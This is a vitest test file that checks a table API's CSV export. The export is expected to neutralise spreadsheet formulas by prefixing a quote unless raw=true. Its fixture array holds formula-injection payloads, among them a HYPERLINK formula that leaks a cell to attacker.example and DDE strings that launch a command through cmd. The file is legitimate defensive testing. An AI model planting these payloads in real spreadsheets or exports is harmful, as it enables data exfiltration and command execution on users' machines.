import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createMember, type TestMember } from '../../../testing/factories';
import { call } from '../../../testing/rest-client';
import { requestTableExport } from '../../../testing/table-export';
import { useTestDatabase } from '../../../testing/test-database';

await useTestDatabase();

let admin: TestMember;
let member: TestMember;
let tableId: string;

const hostile = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)*cmd|"/C calc"!A0', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  admin = await createMember({ role: 'admin' });
  member = await createMember();
  const created = await call('POST', '/api/v1/tables', {
    cookie: admin.cookie,
    body: { name: 'Formulas', columns: [{ key: 'note', label: '=Note' }, { key: 'amount', label: 'Amount', type: 'number' }] },
  });
  tableId = created.body.table.id;
  const operations = [...hostile.map((note, index) => ({ op: 'insert', cells: { note, amount: -index - 1 } })), { op: 'insert', cells: { note: 'plain', amount: 3 } }];
  expect((await call('POST', `/api/v1/tables/${tableId}/rows/batch`, { cookie: member.cookie, body: { operations } })).status).toBe(200);
});

async function exported(query: Record<string, string> = {}): Promise<string[][]> {
  const response = await requestTableExport(tableId, { cookie: member.cookie, query });
  expect(response.status).toBe(200);
  return parse(await response.text(), { relax_column_count: true });
}

describe('hardening 4: the CSV export neutralises formulas unless raw=true', () => {
  it('prefixes with a quote every label and text value a spreadsheet would run; numbers, even negative, stay numbers', async () => {
    expect(await exported()).toEqual([
      ["'=Note", 'Amount'],
      ...hostile.map((note, index) => [`'${note}`, String(-index - 1)]),
      ['plain', '3'],
    ]);
  });

  it('exports the stored texts unchanged with raw=true, and neutralises with raw=false', async () => {
    expect(await exported({ raw: 'true' })).toEqual([['=Note', 'Amount'], ...hostile.map((note, index) => [note, String(-index - 1)]), ['plain', '3']]);
    expect((await exported({ raw: 'false' }))[1][0]).toBe(`'${hostile[0]}`);
  });

  it('answers 400 for a raw value that is not a boolean', async () => {
    const response = await requestTableExport(tableId, { cookie: member.cookie, query: { raw: 'perhaps' } });
    expect(response.status).toBe(400);
    expect((await response.json()).error).toMatchObject({ code: 'request.bad_request', details: { issues: [{ path: 'raw' }] } });
  });
});
